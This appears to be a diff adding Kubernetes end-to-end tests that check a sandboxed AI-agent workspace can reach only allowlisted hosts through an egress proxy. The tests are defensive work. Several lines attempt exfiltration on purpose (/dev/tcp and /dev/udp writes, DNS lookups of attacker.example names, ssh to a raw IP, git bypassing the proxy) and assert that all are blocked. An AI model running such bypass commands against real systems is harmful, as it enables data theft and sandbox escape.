@@ -33,9 +33,12 @@ import {
   getJson,
   kubectl,
   kubectlOk,
+  connectGuard,
+  modelRequests,
   realNode,
   until,
 } from "./support";
+import { startPublicHost, type PublicHost } from "./public-host";
 
 const node = realNode();
 const need = fromSetup;
@@ -43,6 +46,11 @@ const NODE_IP = need("JR2_REAL_NODE_IP");
 const SANDBOX_IMAGE = need("JR2_NODE_SANDBOX_IMAGE");
 const COMPANIONS_IMAGE = need("JR2_NODE_COMPANIONS_IMAGE");
 const BY_TAG = JSON.parse(need("JR2_NODE_IMAGES_BY_TAG")) as Record<string, string>;
+const EFFECTOR_IMAGE = need("JR2_NODE_EFFECTOR_IMAGE");
+const USER_IMAGE = need("JR2_NODE_USER_IMAGE");
+/** The stand-in public host's names (dev/cluster/node.sh, test/node/public-host.ts). */
+const ALLOWED = "allowed.egress.example";
+const OTHER = "other.egress.example";
 
 const MODULE = `pepr-${cfg.pepr.uuid}`;
 const PEPR_NS = "pepr-system";
@@ -56,12 +64,45 @@ const tmp = mkdtempSync(join(tmpdir(), "jr2-deployed-"));
 const remotes = join(tmp, "remotes");
 const SCRIPTED_KEY = `sk-deployed-${randomBytes(16).toString("hex")}`;
 const TOKEN = randomBytes(24).toString("hex");
-const SCRIPT = proposeScript("deployed");
+/** The turn's bash also tries the public host by both names, through the Harness's proxy (its
+ * Custodian, which chains to the egress point): the other name refused, the allowed one reached. */
+const SCRIPT = proposeScript(
+  "deployed",
+  `git ls-remote http://${OTHER}/refused.git 2>&1 | head -3; git ls-remote http://${ALLOWED}/reached.git 2>&1 | head -3`,
+);
 const onRealNode = {
   nodeSelector: { [node.label[0]]: node.label[1] },
   tolerations: [{ key: node.taint.key, operator: "Equal", value: node.taint.value, effect: node.taint.effect }],
 };
 let daemon: ChildProcess | undefined;
+let publicHost: PublicHost | undefined;
+
+/** Node, in the Harness container: `CONNECT <argv[1]>` through $HTTPS_PROXY (its Custodian), then
+ * a GET inside the tunnel. Prints the CONNECT's status, and after a 200 the inner status line. */
+const CONNECT_JS = `
+const http = require("http");
+const target = process.argv[1];
+const path = process.argv[2] || "/";
+const proxy = new URL(process.env.HTTPS_PROXY);
+const req = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: target, headers: { host: target } });
+req.setTimeout(8000, () => { console.log("timeout"); process.exit(0); });
+req.on("error", (e) => { console.log(e.code); process.exit(0); });
+req.on("connect", (res, sock) => {
+  if (res.statusCode !== 200) { console.log(res.statusCode); process.exit(0); }
+  sock.write("GET " + path + " HTTP/1.1\\r\\nHost: " + target.split(":")[0] + "\\r\\nConnection: close\\r\\n\\r\\n");
+  let got = "";
+  sock.on("data", (c) => (got += c));
+  sock.on("end", () => { console.log("200 " + got.split("\\r\\n")[0]); process.exit(0); });
+});
+req.end();`;
+/** Node: a direct TCP connect, no proxy; `dropped` when it times out (the policy's drop). */
+const DIAL_JS = (host: string, port: number) =>
+  `const s=require("net").connect(${port},${JSON.stringify(host)});s.setTimeout(3000,()=>{console.log("dropped");process.exit(0)});` +
+  `s.on("connect",()=>{console.log("connected");process.exit(0)});s.on("error",e=>{console.log(e.code);process.exit(0)})`;
+/** Node: a name lookup; `resolved` when it resolves. */
+const LOOKUP_JS = (name: string) =>
+  `require("dns").lookup(${JSON.stringify(name)},(e)=>{console.log(e?e.code:"resolved");process.exit(0)});` +
+  `setTimeout(()=>{console.log("timeout");process.exit(0)},8000)`;
 let remoteUrl = "";
 const ORCHESTRATOR_URL = `http://jr2-orchestrator.${SYSTEM}.svc.cluster.local:8090`;
 const ready = (p: Obj) => p.status?.conditions?.find((c: Obj) => c.type === "Ready")?.status === "True";
@@ -80,6 +121,10 @@ function configured(docs: Obj[]): Obj[] {
         { name: "JR2_MODEL_ID", value: "scripted" },
       ],
     },
+    effector: { image: EFFECTOR_IMAGE },
+    // The installation's base list (decision 0051): the stand-in public host's allowed name, on
+    // port 80. Its other name is on no list unless a workspace's says so.
+    egress: { allow: [`${ALLOWED}:80`] },
     placement: onRealNode,
   };
   const data: Record<string, Record<string, string>> = {
@@ -92,6 +137,8 @@ function configured(docs: Obj[]): Obj[] {
 }
 
 beforeAll(async () => {
+  // The stand-in public host (dev/cluster/node.sh): its listeners record what reaches them.
+  publicHost = await startPublicHost();
   // The remote, served by real git over git:// where the real node's pods reach this machine.
   const work = join(tmp, "src");
   gitIn(undefined, "init", "--quiet", "-b", "main", work);
@@ -142,7 +189,6 @@ beforeAll(async () => {
     },
     ...scriptedModelObjects({
       namespace: modelNs,
-      sandboxNamespace: SANDBOXES,
       image: COMPANIONS_IMAGE,
       key: SCRIPTED_KEY,
       script: SCRIPT,
@@ -153,6 +199,7 @@ beforeAll(async () => {
     [PEPR_NS, MODULE],
     [PEPR_NS, `${MODULE}-watcher`],
     [SYSTEM, "jr2-orchestrator"],
+    [SYSTEM, "jr2-egress"],
     [modelNs, SCRIPTED_MODEL],
   ])
     await available(ns, d);
@@ -185,11 +232,20 @@ function cleanUp() {
     "jr2-sandbox-defaults",
     "--ignore-not-found",
   ]);
-  kubectl(["delete", "clusterrole,clusterrolebinding", MODULE, "jr2-cache-agent", "--ignore-not-found"]);
+  kubectl([
+    "delete",
+    "clusterrole,clusterrolebinding",
+    MODULE,
+    "jr2-cache-agent",
+    "jr2-egress",
+    "jr2-orchestrator-sandboxes",
+    "--ignore-not-found",
+  ]);
 }
 
 afterAll(async () => {
   daemon?.kill();
+  await publicHost?.stop();
   cleanUp();
   rmSync(tmp, { recursive: true, force: true });
 }, 600_000);
@@ -296,6 +352,190 @@ describe("the manifests npm run build writes, deployed with the images npm run i
     const output = await toPromise(actor);
     expectProposedTurn(output, modelNs, "deployed");
   }, 420_000);
+
+  // Decision 0051: egress by allowlist through the deployed egress point, from every seat.
+  describe("egress by allowlist, through the egress point", () => {
+    const client = () => new OrchestratorClient({ url: ORCHESTRATOR_URL, token: TOKEN });
+    /** A workspace with every seat (user, effector) and its own (empty) list; and a second one. */
+    let mine = "";
+    let theirs = "";
+    const exec = (ws: string, container: string, ...command: string[]) =>
+      kubectl(["exec", "-n", SANDBOXES, ws, "-c", container, "--", ...command]);
+    /** `CONNECT target` through the proxy in the seat's env (`HTTPS_PROXY`), then a GET inside:
+     * prints the CONNECT's status, and with 200 the inner answer's status line. Node, in the Harness. */
+    const connectThrough = (ws: string, target: string, path = "/") =>
+      exec(ws, "harness", "node", "-e", CONNECT_JS, target, path).stdout.trim();
+    const host = () => publicHost!;
+    /** Every record before this one has been read: the recorder writes them in the order they came. */
+    const barrier = async (ws: string, tag: string) => {
+      expect(connectThrough(ws, `${ALLOWED}:80`, `/barrier-${tag}`)).toMatch(/^200 /);
+      await host().waitFor(`the barrier ${tag}`, (rs) =>
+        rs.some((r) => r.kind === "http" && r.path === `/barrier-${tag}`),
+      );
+    };
+    const dropped = (r: { status: number | null }) => r.status === 124;
+
+    beforeAll(async () => {
+      const c = client();
+      mine = (
+        await c.createWorkspace({
+          image: SANDBOX_IMAGE,
+          branch: "feature/egress",
+          userImage: USER_IMAGE,
+          effector: {},
+          egress: { allow: [] },
+        })
+      ).name;
+      theirs = (await c.createWorkspace({ image: SANDBOX_IMAGE, branch: "feature/egress" })).name;
+      for (const ws of [mine, theirs]) {
+        const v = await c.waitReady(ws, { timeoutMs: 300_000 });
+        expect({ ws, state: v.state, failure: v.failure }).toEqual({ ws, state: "ready", failure: undefined });
+      }
+    }, 420_000);
+
+    test("the Harness reaches an allowed host through its proxy; an unlisted name and a raw address are refused", () => {
+      expect(connectThrough(mine, `${ALLOWED}:80`)).toMatch(/^200 HTTP\/1\.1 200/);
+      expect(connectThrough(mine, `${OTHER}:80`)).toBe("403");
+      expect(connectThrough(mine, "203.0.113.10:80")).toBe("403");
+      // A port the base list does not name, on the allowed name.
+      expect(connectThrough(mine, `${ALLOWED}:8080`)).toBe("403");
+    });
+
+    test("from the Harness, a tool that goes around the proxy reaches nothing: bash, git, ssh, UDP, DNS", async () => {
+      const sh = (command: string) => exec(mine, "harness", "timeout", "5", "bash", "-c", command);
+      expect(dropped(sh("exec 3<>/dev/tcp/203.0.113.10/80"))).toBe(true);
+      expect(sh(`git -c http.proxy= ls-remote http://203.0.113.10/around.git`).status).not.toBe(0);
+      expect(
+        sh("ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no git@203.0.113.10 true").status,
+      ).not.toBe(0);
+      sh("echo exfil-udp-harness > /dev/udp/203.0.113.11/7");
+      expect(sh("getent hosts exfil-dns-harness.attacker.example").status).not.toBe(0);
+      // Nothing of any of them arrived outside: the stand-in's recorders saw none of it.
+      await barrier(mine, "harness");
+      expect(
+        host()
+          .udp()
+          .map((r) => r.data)
+          .join("\n"),
+      ).not.toContain("exfil-udp-harness");
+      expect(
+        host()
+          .dns()
+          .map((r) => r.name)
+          .join("\n"),
+      ).not.toContain("exfil-dns-harness");
+      expect(
+        host()
+          .http()
+          .some((r) => r.path.startsWith("/around.git")),
+      ).toBe(false);
+    });
+
+    test("the user seat and the Effector reach the allowed host by their proxy, and nothing else", async () => {
+      connectGuard.lift();
+      try {
+        for (const seat of ["user", "effector"]) {
+          const get = (url: string) => exec(mine, seat, "/jr2-probe", "get", url);
+          expect([seat, get(`http://${ALLOWED}/from-${seat}`).status]).toEqual([seat, 0]);
+          expect([seat, get(`http://${OTHER}/from-${seat}`).status]).toEqual([seat, 1]);
+          expect([seat, get("http://203.0.113.10/raw").status]).toEqual([seat, 1]);
+          expect([seat, exec(mine, seat, "/jr2-probe", "connect", "203.0.113.10:80").status]).toEqual([seat, 1]);
+          expect([
+            seat,
+            exec(mine, seat, "/jr2-probe", "resolve", `exfil-dns-${seat}.attacker.example`).status,
+          ]).toEqual([seat, 1]);
+        }
+        // The Custodian itself: no way out but the egress point, no resolver.
+        const custodian = (js: string) => exec(mine, "custodian", "node", "-e", js).stdout.trim();
+        expect(custodian(DIAL_JS("203.0.113.10", 80))).toBe("dropped");
+        expect(custodian(LOOKUP_JS("exfil-dns-custodian.attacker.example"))).not.toBe("resolved");
+      } finally {
+        connectGuard.restore();
+      }
+      await barrier(mine, "seats");
+      const paths = host()
+        .http()
+        .map((r) => `${r.host} ${r.path}`);
+      expect(paths).toEqual(expect.arrayContaining([`${ALLOWED} /from-user`, `${ALLOWED} /from-effector`]));
+      expect(paths.some((p) => p.startsWith(OTHER) || p.includes("/raw"))).toBe(false);
+      expect(
+        host()
+          .dns()
+          .map((r) => r.name)
+          .join("\n"),
+      ).not.toMatch(/exfil-dns-/);
+    });
+
+    test("a PUT adds a host, and the next attempt passes, with no restart; the other workspace's list is untouched", async () => {
+      const before = getJson(["pod", "-n", SANDBOXES, mine]);
+      const c = client();
+      expect(await c.egress(mine)).toEqual({ allow: [] });
+      expect(await c.setEgress(mine, [`${OTHER}:80`])).toEqual({ allow: [`${OTHER}:80`] });
+      expect(await c.egress(mine)).toEqual({ allow: [`${OTHER}:80`] });
+      await until(`${OTHER} allowed for ${mine}`, 10_000, () =>
+        connectThrough(mine, `${OTHER}:80`).startsWith("200 ") ? true : undefined,
+      );
+      const after = getJson(["pod", "-n", SANDBOXES, mine]);
+      expect(after.metadata.uid).toBe(before.metadata.uid);
+      const restarts = (p: Obj) => p.status.containerStatuses.map((x: Obj) => `${x.name}:${x.restartCount}`).sort();
+      expect(restarts(after)).toEqual(restarts(before));
+      // A workspace's list never applies to another's.
+      expect(connectThrough(theirs, `${OTHER}:80`)).toBe("403");
+      expect(connectThrough(theirs, `${ALLOWED}:80`)).toMatch(/^200 /);
+    }, 60_000);
+
+    test("every decision recorded: the workspace's log, the metric, one Warning Event per refused host; no secret", async () => {
+      for (let i = 0; i < 3; i++) expect(connectThrough(theirs, "203.0.113.10:80")).toBe("403");
+      const { entries } = await client().egressLog(theirs);
+      const refused = entries.filter((e) => e.decision === "refused" && e.host === "203.0.113.10");
+      expect(refused.length).toBeGreaterThanOrEqual(3);
+      const allowed = entries.find((e) => e.decision === "allowed" && e.host === ALLOWED);
+      expect(allowed).toMatchObject({ port: 80 });
+      expect(allowed!.bytesOut).toBeGreaterThan(0);
+      expect(allowed!.bytesIn).toBeGreaterThan(0);
+      // One Event for the host, however often it was refused.
+      const events = await until("the EgressRefused Event", 10_000, () => {
+        const items = (
+          getJson(["events", "-n", SANDBOXES, "--field-selector", `involvedObject.name=${theirs},reason=EgressRefused`])
+            .items as Obj[]
+        ).filter((e) => e.message.includes("203.0.113.10"));
+        return items.length ? items : undefined;
+      });
+      expect(events.map((e: Obj) => [e.type, e.count ?? 1, e.involvedObject.kind])).toEqual([
+        ["Warning", 1, "Sandbox"],
+      ]);
+      const pod = getJson(["pods", "-n", SYSTEM, "-l", "app.kubernetes.io/name=jr2-egress"]).items[0];
+      const metrics = await (await fetch(`http://${pod.status.podIP}:9091/metrics`)).text();
+      const count = (decision: string) =>
+        Number(new RegExp(`^jr2_egress_connections_total\\{decision="${decision}"\\} (\\d+)`, "m").exec(metrics)?.[1]);
+      expect(count("refused")).toBeGreaterThanOrEqual(3);
+      expect(count("allowed")).toBeGreaterThanOrEqual(1);
+      // The log and the Events carry hosts, never a key or a Stand-in.
+      const said = JSON.stringify(entries) + JSON.stringify(events) + metrics;
+      expect(said).not.toContain(SCRIPTED_KEY);
+      expect(said).not.toMatch(/jr2-stand-in-/);
+    }, 60_000);
+
+    test("an Agent's turn: its bash is refused one host and reaches the other; the provider got the real key, the public host none", async () => {
+      // The turn ran above ("an Agent's turn with a Menu pick"): its bash's answer is in what the
+      // model was sent next.
+      const contents = modelRequests(modelNs).map((r) => r.last?.content ?? "");
+      const bash = contents.find((c) => c.includes("refused.git")) ?? contents.find((c) => c.includes("403")) ?? "";
+      expect(bash).toMatch(/403/);
+      const reached = host()
+        .http()
+        .filter((r) => r.path.startsWith("/reached.git"));
+      expect(reached.length).toBeGreaterThan(0);
+      expect(
+        host()
+          .http()
+          .some((r) => r.path.startsWith("/refused.git")),
+      ).toBe(false);
+      // No key and no Stand-in ever reached the public host: it got no Authorization at all.
+      for (const r of host().http()) expect(r.authorization ?? "").toBe("");
+      for (const r of modelRequests(modelNs)) expect(r.keyed).toBe(true);
+    });
+  });
 
   describe("each service account's RBAC, as kubectl auth can-i --list reads it", () => {
     /** `kubectl auth can-i --list` as the service account: resource -> verbs. */
